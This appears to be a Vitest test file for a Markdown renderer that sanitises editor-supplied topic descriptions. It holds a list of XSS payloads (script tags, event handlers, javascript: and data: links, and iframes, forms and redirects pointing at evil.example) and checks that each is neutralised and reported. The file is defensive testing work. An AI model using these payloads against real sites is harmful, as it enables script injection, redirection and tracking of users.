import { parseHTML } from 'linkedom';
import { describe, expect, it } from 'vitest';
import { editorialProblems, isSafeLink, renderEditorial } from './editorial.ts';

/** Every attack of issue 17 point 1, as an editor could paste it into a topic's description. */
const attacks = [
  '<script src="/captures/000_132f9a9ed851b9fb.txt"></script>',
  '<script>alert(1)</script>',
  '<meta http-equiv="refresh" content="5;url=https://evil.example/">',
  '<iframe src="https://evil.example/"></iframe>',
  '<form action="https://evil.example/"><input name="q"><button>ok</button></form>',
  '<img src=x onerror="alert(2)">',
  '<a href="#" onclick="alert(3)">клик</a>',
  '<style>body{display:none}</style>',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<svg onload="alert(4)"></svg>',
  '<object data="https://evil.example/x.swf"></object>',
  '<base href="https://evil.example/">',
  '[ссылка](javascript:alert(5))',
  '[ссылка](<JaVaScRiPt:alert(6)>)',
  '[ссылка](data:text/html;base64,PHNjcmlwdD5hbGVydCg3KTwvc2NyaXB0Pg==)',
  '[ссылка](vbscript:msgbox(8))',
  '[ссылка][ref]\n\n[ref]: javascript:alert(9)',
  '![картинка](https://evil.example/track.png)',
  '![картинка](data:image/svg+xml;base64,PHN2Zz4=)',
  '<https://example.org/ok> и <javascript:alert(10)>',
  '{alert(11)} {/* MDX */} import x from "y"\nexport const z = 1',
];

/** What a rendered fragment would let run or load, found in the DOM a browser would build. */
function dangers(html: string): string[] {
  const { document } = parseHTML(`<!doctype html><html><body>${html}</body></html>`);
  const found: string[] = [];
  for (const element of document.querySelectorAll(
    'script, style, iframe, frame, form, input, button, meta, link, object, embed, base, svg',
  ))
    found.push(`<${element.localName}>`);
  for (const element of document.querySelectorAll('*')) {
    for (const name of element.getAttributeNames()) {
      const value = element.getAttribute(name) ?? '';
      if (/^on/iu.test(name) || name === 'style') found.push(`<${element.localName} ${name}>`);
      if (
        ['href', 'src', 'action', 'data', 'formaction'].includes(name) &&
        !/^(?:https?:|mailto:|\/|#|[^:]*$)/iu.test(value.trim())
      )
        found.push(`<${element.localName} ${name}="${value}">`);
      if (element.localName === 'img' && /^(?:[a-z]+:|\/\/)/iu.test(value) && name === 'src')
        found.push(`<img src="${value}">`);
    }
  }
  return found;
}

describe('editorial Markdown', () => {
  it.each(attacks)('renders nothing that can run or load from elsewhere: %s', (attack) => {
    expect(dangers(renderEditorial(`Текст до.\n\n${attack}\n\nТекст после.`))).toEqual([]);
    expect(renderEditorial(`Текст до.\n\n${attack}\n\nТекст после.`)).toContain('Текст после.');
  });

  it('reports every attack but the harmless text ones, each with its line', () => {
    for (const attack of attacks.slice(0, -1)) {
      const problems = editorialProblems(`Текст.\n\n${attack}`);
      expect(problems.length, attack).toBeGreaterThan(0);
      expect(
        problems.every((p) => p.line >= 3 && p.message && p.fix),
        attack,
      ).toBe(true);
    }
    // MDX expressions and imports are not evaluated: a topic's description is Markdown, so they stay text.
    expect(editorialProblems(attacks.at(-1)!)).toEqual([]);
    expect(renderEditorial(attacks.at(-1)!)).toContain('{alert(11)}');
  });

  it('keeps what an editor needs', () => {
    const html = renderEditorial(
      '## Заголовок\n\n**Жирный**, _курсив_, `код`, [сайт](https://example.org/), [тема](/topics/x/#p-2), [почта](mailto:a@example.org).\n\n> цитата\n\n- один\n- два\n\n1. первый\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n![схема](/images/scheme.png)\n\n2 < 3 и a & b',
    );
    for (const fragment of [
      '<h2>Заголовок</h2>',
      '<strong>Жирный</strong>',
      '<em>курсив</em>',
      '<code>код</code>',
      '<a href="https://example.org/">сайт</a>',
      '<a href="/topics/x/#p-2">тема</a>',
      '<a href="mailto:a@example.org">почта</a>',
      '<blockquote>',
      '<li>один</li>',
      '<ol>',
      '<table>',
      '<img src="/images/scheme.png" alt="схема">',
      '2 &#x3C; 3 и a &#x26; b',
    ]) {
      expect(html).toContain(fragment);
    }
    expect(
      editorialProblems('## Заголовок\n\n[сайт](https://example.org/) ![схема](/images/scheme.png) 2 < 3'),
    ).toEqual([]);
  });

  it('tells safe links from unsafe ones', () => {
    expect(
      ['https://a.example/', 'http://a.example/', 'mailto:x@a.example', '/topics/', '#p-1', 'page/', '?q=1'].filter(
        (u) => !isSafeLink(u),
      ),
    ).toEqual([]);
    expect(
      [
        'javascript:x',
        ' JavaScript:x',
        'java\tscript:x',
        'data:x',
        'vbscript:x',
        'file:///etc/hostname',
        '//evil.example/',
      ].filter((u) => isSafeLink(u)),
    ).toEqual([]);
  });
});
